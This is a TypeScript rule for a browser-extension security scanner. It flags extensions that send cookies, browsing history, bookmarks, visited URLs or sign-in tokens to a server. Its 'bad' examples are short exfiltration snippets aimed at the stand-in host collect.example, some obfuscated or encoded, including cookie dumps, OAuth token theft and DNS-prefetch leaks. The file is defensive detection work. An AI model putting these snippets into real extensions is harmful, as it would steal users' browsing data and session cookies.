import { askedFor } from '../../flows/extension/askedFor.ts';
import { flowsOf } from '../../flows/flowsOf.ts';
import { hitsOfFlows, milder, OPENED, sentence, staysHere, type Weight } from '../../flows/hits.ts';
import type { Severity } from '../../../model/finding.ts';
import type { Flow } from '../../flows/flow.ts';
import type { SourceKind } from '../../flows/kinds.ts';
import { coversAllSites } from '../../facts/extension/matchPattern.ts';
import { manifestOf } from '../../facts/extension/roles.ts';
import { sample } from '../../flows/sample.ts';
import { reachOfScope } from '../permissions/account-scope-broad.ts';
import { defineRule } from '../../rule.ts';

const SEVERITY: Partial<Record<SourceKind, Severity>> = {
  cookies: 'high',
  history: 'high',
  bookmarks: 'high',
  'browsing-data': 'medium',
  downloads: 'medium',
  management: 'medium',
  tabs: 'medium',
  navigation: 'medium',
  'page-address': 'medium',
};

/** Servers of who gave the token out. */
const ISSUER = /^https:\/\/(?:[\w-]+\.)*(?:google|googleapis|youtube)\.com(?:\/|$)/;

/** What tells, one after the other, of the pages that are visited. */
const VISITS: ReadonlySet<SourceKind> = new Set<SourceKind>(['page-address', 'tabs', 'navigation']);

/**
 * Whether the person asks for it each time: in the popup, by the button or a shortcut. Everything else goes out by itself,
 * page after page.
 */
function isAsked({ source, unit, pos }: Flow): boolean {
  const inPopup = ({ roles }: Flow['unit']): boolean => roles.has('popup') && !roles.has('background');
  return (
    inPopup(unit) ||
    inPopup(source.unit) ||
    askedFor(unit, pos) ||
    askedFor(source.unit, source.unit.script.pos[source.shown] as number)
  );
}

function weigh(flow: Flow, isBroad: boolean, everywhere: ReadonlySet<string>): Weight | undefined {
  const { source, sink, unit } = flow;
  // Signing in at one's own server by such a token is common; with it the server can do whatever it was given for.
  const isToken = source.kind === 'identity' && source.label === 'a sign-in token';
  // A host tells where a person is, not what they do there.
  const severity = isToken
    ? isBroad
      ? 'high'
      : 'low'
    : source.label === 'host of the web page'
      ? 'low'
      : SEVERITY[source.kind];
  if (
    sink.kind !== 'network' ||
    severity === undefined ||
    staysHere(sink.to) ||
    (isToken && ISSUER.test(sink.to ?? '')) ||
    // A page that the person opens, and sees: of theirs, it is told what they asked it for.
    (OPENED.test(sink.label) && severity !== 'high' && askedFor(unit, flow.pos))
  )
    return undefined;
  const asked = isAsked(flow);
  const known = sink.to !== undefined && /^(?:https?|wss?):\/\/[^*/]+/.test(sink.to);
  // Every visit, by itself, to a server that is named: all that a person does on the web.
  const isTrail =
    known &&
    severity === 'medium' &&
    VISITS.has(source.kind) &&
    flow.hops <= 2 &&
    (source.kind !== 'page-address' || everywhere.has(source.unit.file.path));
  const mild = asked ? (severity === 'high' ? milder(severity) : 'low') : isTrail ? 'high' : severity;
  return {
    severity: flow.checked || OPENED.test(sink.label) ? milder(mild) : mild,
    confidence: flow.stored || !known ? 'medium' : 'high',
    message: sentence(flow, known ? sink.to : undefined),
  };
}

export default defineRule({
  id: 'browsing-data-to-network',
  title: 'Sends browsing data to a server',
  severity: 'high',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'Cookies, history, bookmarks or addresses of visited pages leave the browser. They tell what a person does, and cookies let others sign in as them.',
  remedy:
    'Send nothing that is not needed for what the person asked, ask first, and say so in the privacy policy. Never send cookies.',
  check: (facts) => {
    const isBroad =
      manifestOf(facts)?.manifest.oauthScopes.some(({ scope }) => reachOfScope(scope) !== undefined) === true;
    const everywhere = new Set(
      manifestOf(facts)?.manifest.contentScripts.flatMap(({ js, matches }) => (matches.some(coversAllSites) ? js : [])),
    );
    return hitsOfFlows(facts.whole(flowsOf).flows, (flow) => weigh(flow, isBroad, everywhere));
  },
  examples: {
    bad: [
      sample({ content: "fetch('https://collect.example/v?u=' + window.location);" }),
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });',
      }),
      sample({
        background:
          'chrome.tabs.onUpdated.addListener((id, info, tab) => { navigator.sendBeacon("https://collect.example/v", tab.url); });',
      }),
      sample({
        background:
          'chrome.history.search({ text: "", maxResults: 1000 }).then(upload); async function upload(items) { const body = new FormData(); body.append("h", JSON.stringify(items)); await fetch("https://collect.example/h", { method: "POST", body }); }',
      }),
      sample({
        background:
          'chrome.webRequest.onCompleted.addListener(function (d) { var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/r"); x.send("u=" + encodeURIComponent(d.url)); }, { urls: ["<all_urls>"] });',
      }),
      sample({
        background:
          'import api from "webextension-polyfill"; const all = []; api.bookmarks.getTree().then((t) => all.push(t)); setInterval(() => { $.post("https://collect.example/b", { all: JSON.stringify(all) }); }, 60000);',
      }),
      sample({ content: 'new Image().src = "https://collect.example/p.gif?u=" + encodeURIComponent(location.href);' }),
      sample({
        background:
          'var n=chrome,r=n.cookies;function o(t){var e=btoa(JSON.stringify(t));fetch("https://collect.example/?d="+e)}r.getAll({},(function(t){o(t)}));',
      }),
      sample({
        background:
          'class Api { constructor(u) { this.u = u; } send(data) { return fetch(this.u, { method: "POST", body: data }); } } const api = new Api("https://collect.example"); chrome.webNavigation.onCommitted.addListener((d) => { const { url } = d; api.send(JSON.stringify({ url, at: 1 })); });',
      }),
      sample({
        content: 'chrome.runtime.sendMessage({ t: "visit", u: document.URL });',
        background:
          'const ws = new WebSocket("wss://collect.example"); chrome.runtime.onMessage.addListener((m) => { if (m.t === "visit") ws.send(m.u); });',
      }),
      sample({
        manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } },
        background:
          'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://collect.example/t", { method: "PUT", body: JSON.stringify({ token }) }); });',
      }),
      sample({
        content: 'chrome.runtime.sendMessage({ t: "seen" });',
        background:
          'async function seal(o) { const iv = crypto.getRandomValues(new Uint8Array(12)); const c = await crypto.subtle.encrypt({ name: "AES-GCM", iv }, key, new TextEncoder().encode(JSON.stringify(o))); return btoa(String.fromCharCode(...new Uint8Array(c))); } chrome.runtime.onMessage.addListener(async (m, sender) => { fetch("https://collect.example/v", { method: "POST", body: await seal({ u: sender.tab.url }) }); });',
      }),
      sample({
        content:
          'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + btoa(location.href) + ".collect.example"; document.head.append(l);',
      }),
    ],
    good: [
      sample({
        manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } },
        background:
          'chrome.identity.getAuthToken({}, (token) => { fetch("https://gmail.googleapis.com/gmail/v1/users/me/labels", { headers: { Authorization: "Bearer " + token } }); });',
      }),
      sample({
        background:
          'chrome.runtime.onMessage.addListener((m, sender) => { if (sender.tab.url.startsWith("https://app.example/")) fetch("https://api.example/seen"); });',
      }),
      sample({
        content:
          'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = chrome.runtime.getURL("skin.css") + "?" + location.href; document.head.append(l);',
      }),
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => { console.log(all.length); fetch("https://api.example/ping"); });',
      }),
      sample({
        background: 'chrome.tabs.query({}, (tabs) => { fetch("https://api.example/count?n=" + tabs.length); });',
      }),
      sample({
        background:
          'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://app.example/") fetch("https://api.example/seen"); });',
      }),
      sample({ background: 'chrome.history.search({ text: "" }, (h) => chrome.storage.local.set({ h }));' }),
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));',
      }),
      sample({
        background:
          'const log = (x) => fetch("https://api.example/log", { method: "POST", body: x }); const show = (x) => x; chrome.tabs.query({}, (t) => show(t[0].url)); log("started");',
      }),
    ],
  },
});
